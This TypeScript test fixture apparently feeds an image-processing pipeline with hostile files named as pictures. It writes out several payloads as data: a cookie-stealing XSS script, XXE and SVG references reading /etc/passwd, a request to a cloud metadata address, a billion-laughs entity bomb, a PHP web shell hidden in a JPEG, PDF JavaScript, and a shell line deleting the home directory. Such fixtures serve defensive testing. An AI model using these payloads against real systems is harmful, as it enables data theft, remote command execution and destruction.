import { riffChunk } from './containers.ts';
import type { HostileFile } from './mutations.ts';

/** What is no picture under a picture's name, also such as begins like one. */

const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">';
const SCRIPT = '<script>window.hostile = true; alert(document.cookie)</script>';

/** Ten entities, each ten of the one before: ten billion letters. */
function billionLaughs(): string {
  const entities = Array.from(
    { length: 10 },
    (_, i) => `<!ENTITY l${i + 1} "${i === 0 ? 'lol' : `&l${i};`.repeat(10)}">`,
  );
  return `<?xml version="1.0"?><!DOCTYPE svg [${entities.join('')}]>${SVG}<text>&l10;</text></svg>`;
}

const text = (content: string) => () => Buffer.from(content);
const latin1 = (content: string) => () => Buffer.from(content, 'latin1');

const DOCUMENTS: Readonly<Record<string, () => Buffer>> = {
  empty: () => Buffer.alloc(0),
  'one-byte': () => Buffer.from([0xff]),
  zeros: () => Buffer.alloc(4096),
  svg: text(`${SVG}<rect width="64" height="64"/></svg>`),
  'svg-script': text(`${SVG}${SCRIPT}</svg>`),
  'svg-external': text(`${SVG}<image xlink:href="file:///etc/passwd" width="64" height="64"/></svg>`),
  'svg-network': text(
    `${SVG}<image xlink:href="http://169.254.169.254/latest" width="64" height="64"/></svg>`,
  ),
  'svg-xxe': text(
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${SVG}<text>&x;</text></svg>`,
  ),
  'svg-entities': text(billionLaughs()),
  'svg-huge': text(SVG.replaceAll('"64"', '"2147483647"') + '</svg>'),
  'svg-deep': text(SVG + '<g>'.repeat(200_000)),
  pdf: latin1(
    '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n',
  ),
  html: text(`<!DOCTYPE html><title>photo</title>${SCRIPT}`),
  'html-comment': text(`<!-- -->\n<html>${SCRIPT}`),
  shell: text('#!/bin/sh\nrm -rf "$HOME"\n'),
  elf: latin1('\x7fELF\x02\x01\x01' + '\0'.repeat(64)),
  exe: latin1('MZ\x90\0' + '\0'.repeat(128) + 'PE\0\0'),
  zip: latin1('PK\x03\x04' + '\0'.repeat(64)),
  gzip: latin1('\x1f\x8b\x08' + '\0'.repeat(64)),
  mp4: latin1('\0\0\0\x18ftypisom\0\0\x02\0isomiso2' + '\0'.repeat(64)),
  bmp: latin1('BM' + '\xff'.repeat(200)),
  'photoshop-document': latin1('8BPS\0\x01' + '\xff'.repeat(200)),
  'portable-pixmap': text('P6 65535 65535 255\n'),
  radiance: text('#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 65535 +X 65535\n'),
  fits: text('SIMPLE  =                    T'.padEnd(80) + 'NAXIS1  =           2147483647'.padEnd(80)),
  csv: text('1,2,3\n4,5,6\n'.repeat(100)),
  'matlab-5': text('MATLAB 5.0 MAT-file'.padEnd(256)),
  openexr: latin1('\x76\x2f\x31\x01\x02\0\0\0' + '\xff'.repeat(200)),
  'jpeg-2000': latin1('\0\0\0\x0cjP  \r\n\x87\n' + '\0'.repeat(64)),
  'jpeg-xl': latin1('\xff\x0a' + '\xff'.repeat(64)),
  'vips-picture': latin1('\x08\xf2\xa6\xb6' + '\xff'.repeat(200)),
  // Begin as a picture and go on as something else.
  'gif-script': latin1('GIF89a/*\x01\0\x01\0*/=1;' + SCRIPT),
  'gif-svg': latin1(`GIF89a${SVG}</svg>`),
  'jpeg-html': latin1(`\xff\xd8\xff\xe0${SCRIPT}`),
  'jpeg-php': latin1('\xff\xd8\xff\xfe\0\x20<?php system($_GET[0]); ?>\xff\xd9'),
  'png-text': latin1('\x89PNG\r\n\x1a\nnothing of the kind'),
  'tiff-pdf': latin1('II*\0%PDF-1.7\n'),
  'bigtiff-empty': latin1('II+\0\x08\0\0\0' + '\xff'.repeat(8)),
  'riff-wave': () => riffChunk('RIFF', Buffer.from('WAVEfmt ')),
  'webp-of-nothing': () => riffChunk('RIFF', Buffer.from('WEBP')),
  'heic-of-nothing': latin1('\0\0\0\x18ftypheic\0\0\0\0mif1heic'),
};

export function documents(): HostileFile[] {
  const extensions = ['.jpg', '.png', '.heic'];
  return Object.entries(DOCUMENTS).flatMap(([name, bytes]) =>
    extensions.map((extension) => ({ name: `${name}${extension}`, family: 'no pictures', bytes })),
  );
}
